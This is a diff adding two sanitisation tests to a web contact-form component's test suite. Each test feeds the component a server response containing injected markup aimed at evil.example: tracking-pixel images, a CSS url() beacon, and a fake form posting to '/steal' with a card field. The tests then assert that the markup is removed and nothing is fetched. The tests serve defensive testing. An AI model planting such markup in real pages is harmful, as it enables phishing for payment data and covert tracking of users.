@@ -366,6 +366,47 @@ describe('pb-contact-form', () => {
       expect((window as unknown as { __pwned?: boolean }).__pwned === true).to.equal(false);
     });
 
+    it('SPEC §7 (untrusted markup): the result keeps no image, no style url() and no form or button of the answer; nothing is requested from another site', async () => {
+      const element = await mount();
+      stubFetch(() =>
+        html(
+          200,
+          '<div id="contact"><p role="status">Thanks</p><img alt="" src="https://evil.example/pixel.png">' +
+            '<p style="background:url(https://evil.example/style.png)">styled</p>' +
+            '<form action="https://evil.example/steal" id="evil-form"><input name="card"><button id="evil-button">Continue</button></form></div>',
+        ),
+      );
+      fillValid(element);
+      const result = nextSubmit(element);
+      submit(element);
+      expect((await result).status).to.equal('success');
+      await wait(200);
+      expect(element.querySelector('[role=status]')!.textContent).to.equal('Thanks');
+      expect(element.querySelectorAll('img, form, input, button, [style]')).to.have.length(0);
+      expect(performance.getEntriesByType('resource').filter((entry) => entry.name.includes('evil.example'))).to.have.length(0);
+    });
+
+    it('SPEC §7 (untrusted markup): an error answer shows its text only, and the element keeps its own form with the typed values', async () => {
+      const element = await mount();
+      stubFetch(() =>
+        html(
+          400,
+          '<div id="contact"><p>Server says no</p><form action="https://evil.example/steal" id="evil-form"><button id="evil-button">Retry here</button></form>' +
+            '<img alt="" src="https://evil.example/error.png"></div>',
+        ),
+      );
+      fillValid(element);
+      const result = nextSubmit(element);
+      submit(element);
+      await result;
+      await wait(200);
+      expect(region(element).textContent).to.equal('Server says no');
+      expect(element.querySelectorAll('form')).to.have.length(1);
+      expect(element.querySelector('#evil-form, #evil-button, img')).to.equal(null);
+      expect(input(element, 'name').value).to.equal('Ann');
+      expect(performance.getEntriesByType('resource').filter((entry) => entry.name.includes('evil.example'))).to.have.length(0);
+    });
+
     it('redirects only to http(s) URLs (pb-submit carries it and is cancelable)', async () => {
       const element = await mount(FORM.replace('timeout="400"', 'timeout="400" redirect-url="/thanks.html"'));
       element.addEventListener('pb-submit', (event) => event.preventDefault());
